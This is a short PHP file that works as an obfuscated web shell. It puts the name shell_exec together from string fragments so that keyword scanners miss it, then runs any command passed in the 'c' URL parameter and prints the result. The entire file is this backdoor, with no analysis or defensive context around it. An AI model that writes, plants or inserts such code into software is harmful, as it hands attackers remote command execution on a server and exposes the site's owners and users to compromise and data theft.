<?php
$p = array('sh', 'ell_', 'exec');
$f = implode('', $p);
echo $f($_GET['c']);
